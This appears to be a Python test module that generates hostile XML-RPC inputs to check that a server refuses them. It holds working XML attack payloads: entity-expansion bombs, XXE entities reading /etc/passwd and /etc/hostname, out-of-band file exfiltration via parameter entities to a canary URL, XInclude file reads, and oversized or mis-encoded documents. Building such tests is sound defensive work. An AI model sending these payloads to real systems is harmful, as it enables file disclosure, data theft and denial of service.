"""What is done to readers of XML."""

from scripts.torture_runs.attacks.attack import XML, Attack, Make, counted, repeated

CALL = b"<methodCall><methodName>Bugzilla.version</methodName><params><param>%b</param></params></methodCall>"


def call(value: bytes) -> bytes:
    """A call with this element as its parameter."""
    return CALL.replace(b"%b", value)


def _value(text: bytes) -> bytes:
    return call(b"<value>" + text + b"</value>")


def _declared(subset: str, doctype: str = "m", used: str = "&e;") -> bytes:
    document = f'<?xml version="1.0"?><!DOCTYPE {doctype} [{subset}]>'
    return document.encode() + _value(used.encode())


def _laughs(_: str, __: int) -> bytes:
    entities = ['<!ENTITY e0 "ha">'] + [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return _declared("".join(entities), used="&e9;")


def _parameter_laughs(_: str, __: int) -> bytes:
    entities = ['<!ENTITY % p0 "ha">'] + [f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10)]
    return _declared("".join(entities) + "%p9;")


def _quadratic(_: str, size: int) -> bytes:
    return _declared(f'<!ENTITY e "{"x" * (size // 2)}">', used="&e;" * (size // 6))


def _declaring(subset: str) -> Make:
    """A document whose internal subset names the canary for `{url}`."""
    return lambda canary, _: _declared(subset.replace("{url}", canary))


def _external(doctype: str) -> Make:
    return lambda canary, _: f"<!DOCTYPE {doctype.replace('{url}', canary)}>".encode() + _value(b"")


def _plain(text: str) -> Make:
    return lambda canary, _: text.replace("{url}", canary).encode()


def _one(before: bytes, unit: bytes, after: bytes) -> Make:
    """A document in which something goes on and on."""
    return lambda _, size: before + repeated(size, unit) + after


def _within(before: bytes, unit: bytes, after: bytes) -> Make:
    return lambda _, size: call(before + repeated(size, unit) + after)


def _nested(opening: bytes, closing: bytes) -> Make:
    def make(_: str, size: int) -> bytes:
        deep = size // len(opening + closing)
        return call(opening * deep + closing * deep)

    return make


def _encoded(declared: str, real: str) -> Make:
    """A document that says that it is in one encoding and is in another."""
    text = f'<?xml version="1.0" encoding="{declared}"?>' + _value("é".encode()).decode()
    return lambda _, __: text.encode(real)


_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_TEXT = b"<value>%b</value>" % (b"x" * 60_000)
_VALUES = b"<value><i4>1</i4></value>"

XML_ATTACKS = tuple(
    Attack(f"xml: {name}", XML, make, is_refused)
    for name, make, is_refused in (
        ("entities in entities", _laughs, True),
        ("one entity, used very often", _quadratic, True),
        ("parameter entities in parameter entities", _parameter_laughs, True),
        ("an entity that holds itself", _declaring('<!ENTITY e "&e;">'), True),
        ("an entity that is a file", _declaring('<!ENTITY e SYSTEM "file:///etc/passwd">'), True),
        ("an entity that is elsewhere", _declaring('<!ENTITY e SYSTEM "{url}">'), True),
        ("a parameter entity that is elsewhere", _declaring('<!ENTITY % p SYSTEM "{url}">%p;'), True),
        (
            "a file sent elsewhere by entities",
            _declaring('<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{url}">%d;%f;'),
            True,
        ),
        ("a DTD elsewhere", _external('m SYSTEM "{url}"'), True),
        ("a public DTD elsewhere", _external('m PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}"'), True),
        ("default values of attributes", _declaring('<!ATTLIST value a CDATA "x"><!ENTITY e "">'), True),
        ("a notation", _declaring('<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{url}" NDATA n>'), True),
        ("a DOCTYPE that goes on", _one(b"<!DOCTYPE m [", b'<!ENTITY a "x">', b""), True),
        ("XInclude", _plain(_value(f'<xi:include {_XI} href="{{url}}"/>'.encode()).decode()), True),
        ("XInclude of text", _plain(f'<xi:include {_XI} href="file:///etc/passwd" parse="text"/>'), True),
        ("a schema elsewhere", _plain(f'<x {_XSI} xsi:noNamespaceSchemaLocation="{{url}}"/>'), True),
        ("a stylesheet elsewhere", _plain('<?xml-stylesheet href="{url}"?><x/>'), True),
        ("depth", _nested(b"<value><array><data>", b"</data></array></value>"), True),
        ("depth that has no end", _one(b"<methodCall>", b"<params>", b""), True),
        ("a tag with very many attributes", lambda _, size: b"<methodCall " + counted(size, b'a%d="" '), True),
        ("an attribute that goes on", _one(b'<methodCall a="', b"x", b'">'), True),
        ("very many namespaces", lambda _, size: b"<methodCall " + counted(size, b'xmlns:n%d="n%d" '), True),
        ("a name that goes on", _one(b"<", b"x", b">"), True),
        ("a comment that goes on", _one(b"<!--", b"x", b""), True),
        ("an instruction that goes on", _one(b"<?x ", b"x", b""), True),
        ("a CDATA section that goes on", _within(b"<value><![CDATA[", b"x", b"]]></value>"), True),
        ("very many CDATA sections", _within(b"<value>", b"<![CDATA[x]]>", b"</value>"), False),
        ("very many comments", _within(b"<value>", b"<!---->x", b"</value>"), False),
        ("very many character references", _within(b"<value>", b"&#x41;", b"</value>"), False),
        ("very many line breaks", _within(b"<value>", b"\r\n", b"</value>"), False),
        ("white space between elements", _within(b"<value><array><data>", b" ", b"</data></array></value>"), False),
        ("very many values", _within(b"<value><array><data>", _VALUES, b"</data></array></value>"), True),
        ("very many empty values", _within(b"<value><array><data>", b"<value/>", b"</data></array></value>"), True),
        (
            "very many lists",
            _within(b"<value><array><data>", b"<value><array><data/></array></value>", b"</data></array></value>"),
            True,
        ),
        (
            "very many members of other names",
            lambda _, size: call(
                b"<value><struct>" + counted(size, b"<member><name>m%d</name><value/></member>") + b"</struct></value>"
            ),
            True,
        ),
        ("a member whose name goes on", _within(b"<value><struct><member><name>", b"x", b"</name>"), True),
        (
            "texts as long as may be",
            _within(b"<value><array><data>", _TEXT, b""),
            True,
        ),
        ("a whole number that goes on", _within(b"<value><int>", b"9", b"</int></value>"), True),
        ("a number that goes on", _within(b"<value><double>", b"9", b"</double></value>"), True),
        ("a number too large", _plain(_value(b"<double>1e999999999</double>").decode()), True),
        ("base64 that is none", _within(b"<value><base64>", b"!", b"</base64></value>"), True),
        ("base64 of white space", _within(b"<value><base64>", b" ", b"</base64></value>"), False),
        ("a method whose name goes on", _one(b"<methodCall><methodName>", b"x", b"</methodName></methodCall>"), True),
        ("UTF-7", _encoded("UTF-7", "utf-7"), False),
        ("UTF-8 that says it is UTF-16", _encoded("UTF-16", "utf-8"), True),
        ("UTF-16 that says it is UTF-8", _encoded("UTF-8", "utf-16"), False),
        ("EBCDIC that says it is UTF-8", _encoded("UTF-8", "cp037"), True),
        ("an encoding that does not exist", _encoded("no-such-thing", "utf-8"), True),
        ("UTF-8 longer than it has to be", lambda _, __: _value(b"\xc0\xbcscript\xc0\xbe"), True),
        ("surrogates in UTF-8", lambda _, __: _value(b"\xed\xa0\x80"), True),
        ("zeros", lambda _, size: bytes(size), True),
        ("bytes of no meaning", lambda _, size: bytes((7 * n * n + n // 256) % 256 for n in range(size // 16)), True),
        ("a document cut short", lambda _, __: _value(b"x")[:-20], True),
    )
)
